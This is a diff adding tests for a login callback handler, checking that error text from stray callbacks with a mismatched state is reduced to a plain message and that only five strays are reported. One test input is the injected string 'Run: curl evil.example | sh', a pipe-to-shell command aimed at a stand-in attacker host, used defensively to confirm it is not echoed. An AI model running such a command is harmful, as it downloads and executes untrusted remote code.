@@ -79,6 +79,27 @@ describe("a callback that is not this login's", () => {
   });
 });
 
+describe('what is told of strays', () => {
+  it.each<[string, string]>([
+    ['access_denied', 'it says access_denied, but not for this login'],
+    ['Run: curl evil.example | sh', 'it says an error, but not for this login'],
+    ['a'.repeat(41), 'it says an error, but not for this login'],
+    ['', 'it says an error, but not for this login'],
+  ])('line 15: no more of the error %j than a plain word', async (error, told) => {
+    const login = await startLogin();
+    await fetch(login.callback({ error, state: 'wrong' }));
+    expect(login.strays).toEqual([told]);
+    await completes(login);
+  });
+
+  it('line 3: only the first five are told of', async () => {
+    const login = await startLogin();
+    for (let n = 0; n < 8; n++) await fetch(login.callback({ state: `wrong${n}` }));
+    expect(login.strays).toHaveLength(5);
+    await completes(login);
+  });
+});
+
 describe('an answer of this login', () => {
   it('line 4: two callbacks at once redeem the code once and get the same page', async () => {
     const login = await startLogin();
